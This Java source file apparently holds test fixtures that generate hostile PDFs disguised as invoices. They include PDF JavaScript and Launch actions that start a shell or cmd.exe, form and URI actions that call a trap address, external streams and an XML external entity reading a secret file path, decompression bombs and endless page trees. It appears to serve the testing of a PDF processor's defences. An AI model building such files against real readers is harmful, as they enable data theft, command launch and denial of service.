package io.kraftd.app.hostile;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.IntFunction;

/** PDF files that act, call, include, or never end. Each maker takes a number that makes its file unlike the others. */
final class PdfTraps {
    private static final int BOMB = 128 * 1024 * 1024;

    private PdfTraps() {}

    static Map<String, IntFunction<byte[]>> all(Trap trap) {
        String uri = trap.address();
        Map<String, IntFunction<byte[]>> all = new LinkedHashMap<>();
        all.put("pdf javascript", n -> opening(n, "/S /JavaScript /JS (app.launchURL\\('" + uri + "'\\))"));
        all.put("pdf launch", n -> opening(n, "/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>"));
        all.put("pdf uri action", n -> opening(n, "/S /URI /URI (" + uri + ")"));
        all.put("pdf submit form", n -> opening(n, "/S /SubmitForm /F << /FS /URL /F (" + uri + ") >>"));
        all.put("pdf go to remote", n -> opening(n, "/S /GoToR /F (" + trap.secretAddress() + ") /D [0 /Fit]"));
        all.put("pdf import data", n -> opening(n, "/S /ImportData /F << /FS /URL /F (" + uri + ") >>"));
        all.put("pdf external stream", n -> external(n, "/FS /URL /F (" + uri + ")"));
        all.put(
                "pdf stream from a file",
                n -> external(n, "/F (" + trap.secretAddress().replace("file://", "") + ")"));
        all.put("pdf external image", n -> image(n, uri));
        all.put("pdf entity in XFA", n -> xfa(n, trap));
        all.put("pdf bomb", n -> bomb(n, 1, "/FlateDecode"));
        all.put("pdf bomb in a bomb", n -> bomb(n, 2, "[/FlateDecode /FlateDecode]"));
        all.put("pdf page tree without end", PdfTraps::endlessPages);
        all.put("pdf form in itself", PdfTraps::endlessForm);
        all.put(
                "pdf million operators",
                n -> text("q Q ".repeat(1_000_000) + shown(n)).write());
        all.put("pdf nested arrays", n -> text("[".repeat(200_000) + shown(n)).write());
        all.put(
                "pdf huge numbers",
                n -> text("1e308 0 0 1e308 9e99 9e99 cm " + shown(n)).write());
        return all;
    }

    private static String shown(int n) {
        return "BT /F1 12 Tf 72 720 Td (Invoice number 4711-" + n + ") Tj ET";
    }

    private static RawPdf text(String content) {
        return RawPdf.page(content, "", "");
    }

    private static byte[] opening(int n, String action) {
        return RawPdf.page(
                        shown(n),
                        "/OpenAction << /Type /Action " + action + " >> /AA << /WC << " + action + " >> >>",
                        "/AA << /O << " + action
                                + " >> >> /Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A << " + action
                                + " >> >> ]")
                .write();
    }

    private static byte[] external(int n, String file) {
        return RawPdf.page(shown(n), "", "/Contents [4 0 R 5 0 R]").stream(
                        "/F << /Type /Filespec " + file + " >> /FFilter /FlateDecode", new byte[0])
                .write();
    }

    private static byte[] image(int n, String uri) {
        return RawPdf.page(shown(n) + " /I Do", "", "/Resources << /XObject << /I 5 0 R >> >>").stream(
                        "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 "
                                + "/ColorSpace /DeviceRGB /F << /FS /URL /F (" + uri + ") >> /Filter /FlateDecode",
                        RawPdf.packed(1024 * 1024, 1))
                .write();
    }

    private static byte[] xfa(int n, Trap trap) {
        String xml =
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"%s\"><!ENTITY f SYSTEM \"%s\">]><x>&e;&f;</x>"
                        .formatted(trap.secretAddress(), trap.address());
        return RawPdf.page(shown(n), "/AcroForm << /XFA 5 0 R /Fields [] >> /Metadata 5 0 R", "").stream(
                        "", xml.getBytes(StandardCharsets.UTF_8))
                .write();
    }

    private static byte[] bomb(int n, int times, String filter) {
        return RawPdf.page(shown(n), "", "/Contents [4 0 R 5 0 R]").stream(
                        "/Filter " + filter, RawPdf.packed(BOMB + n, times))
                .write();
    }

    private static byte[] endlessPages(int n) {
        return new RawPdf()
                .object("<< /Type /Catalog /Pages 2 0 R /N " + n + " >>")
                .object("<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2000000000 >>")
                .object("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1000000 >>")
                .write();
    }

    private static byte[] endlessForm(int n) {
        return RawPdf.page(shown(n) + " /X Do", "", "/Resources << /XObject << /X 5 0 R >> >>").stream(
                        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>",
                        "/X Do /X Do".getBytes(StandardCharsets.US_ASCII))
                .write();
    }
}
